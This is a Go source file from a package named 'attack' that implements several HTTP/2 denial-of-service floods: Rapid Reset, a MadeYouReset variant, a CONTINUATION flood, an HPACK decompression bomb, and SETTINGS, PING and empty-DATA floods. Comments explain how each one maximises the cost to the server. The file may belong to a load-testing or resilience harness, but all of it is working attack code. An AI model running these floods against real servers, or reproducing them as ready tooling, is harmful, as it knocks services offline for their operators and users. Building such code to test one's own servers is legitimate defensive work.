package attack

import (
	"bytes"
	"context"
	"net/netip"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The HTTP/2 floods. Each writes frames in batches of h2Batch and flushes, as fast as
// the connection takes them, until the server ends the connection or the attack ends.

// h2Batch is how many abusive units one round writes before a flush.
const h2Batch = 64

// rapidReset opens streams and cancels each at once: the server starts work for every
// request and the attacker never waits for an answer.
func rapidReset(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
		for i := range h2Batch {
			id := h.stream()
			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block("GET", "/"),
				EndStream: true, EndHeaders: true}); err != nil {
				return i, err
			}
			if err := h.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return i, err
			}
		}
		return h2Batch, nil
	})
}

// madeYouReset sends requests followed by a frame that makes the server reset the
// stream itself, in turn: WINDOW_UPDATE with increment 0, DATA after END_STREAM, and
// PRIORITY making the stream depend on itself. No RST_STREAM comes from the client.
func madeYouReset(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
		for i := range h2Batch {
			id := h.stream()
			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block("GET", "/slow?ms=100"),
				EndStream: true, EndHeaders: true}); err != nil {
				return i, err
			}
			var err error
			switch id / 2 % 3 {
			case 0:
				err = h.fr.WriteWindowUpdate(id, 0)
			case 1:
				err = h.fr.WriteData(id, false, []byte("x"))
			default:
				err = h.fr.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 15})
			}
			if err != nil {
				return i, err
			}
		}
		return h2Batch, nil
	})
}

// continuationFlood begins a header block and never ends it: zero-length
// CONTINUATION frames without END_HEADERS, which add nothing to the block's size.
func continuationFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	return oneStreamFlood(ctx, t, src, rec, "GET", false, func(h *h2Conn, id uint32) error {
		return h.fr.WriteContinuation(id, false, nil)
	})
}

// oneStreamFlood opens one request (HEADERS with END_STREAM and END_HEADERS as given)
// and then writes frames on it with flood, without end.
func oneStreamFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder, method string, endHeaders bool,
	flood func(h *h2Conn, id uint32) error) error {
	var id uint32
	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
		if id == 0 {
			id = h.stream()
			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(method, "/"),
				EndStream: method == "GET", EndHeaders: endHeaders}); err != nil {
				return 0, err
			}
		}
		for i := range h2Batch * 16 {
			if err := flood(h, id); err != nil {
				return i, err
			}
		}
		return h2Batch * 16, nil
	})
}

// hpackBombValue fills most of HPACK's default 4 KiB dynamic table with one entry.
var hpackBombValue = strings.Repeat("b", 4000)

// hpackBombRefs is how many one-byte references to that entry a block carries: 96 ×
// 4 KB decodes to 384 KB, past any header limit, from under 200 bytes on the wire.
const hpackBombRefs = 96

// hpackBomb sends header blocks that decode to hundreds of kilobytes each: the first
// puts a 4 KB field in the dynamic table (the newest entry, index 62), every block
// then refers to it again and again with one byte per reference. The references are
// written as bytes: the encoder would hash the 4 KB value for each of them, and the
// attack would measure the attacker's CPU.
func hpackBomb(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	bomb := hpack.HeaderField{Name: "x-bomb", Value: hpackBombValue}
	refs := bytes.Repeat([]byte{0x80 | 62}, hpackBombRefs)
	first := true
	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
		for i := range h2Batch / 4 {
			var block []byte
			if first {
				block, first = h.block("GET", "/", bomb), false
			} else {
				block = append(h.block("GET", "/"), refs...)
			}
			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: block,
				EndStream: true, EndHeaders: true}); err != nil {
				return i, err
			}
		}
		return h2Batch / 4, nil
	})
}

// settingsFlood sends SETTINGS frames, each of which the server must apply and
// acknowledge.
func settingsFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
		for i := range h2Batch {
			if err := h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + uint32(i)}); err != nil {
				return i, err
			}
		}
		return h2Batch, nil
	})
}

// pingFlood sends PING frames, each of which the server must answer.
func pingFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	var data [8]byte
	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
		for i := range h2Batch {
			data[0] = byte(i)
			if err := h.fr.WritePing(false, data); err != nil {
				return i, err
			}
		}
		return h2Batch, nil
	})
}

// emptyFrames opens a POST and sends empty DATA frames on it that never end it: each
// costs the server a frame's work and carries nothing.
func emptyFrames(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	return oneStreamFlood(ctx, t, src, rec, "POST", true, func(h *h2Conn, id uint32) error {
		return h.fr.WriteData(id, false, nil)
	})
}
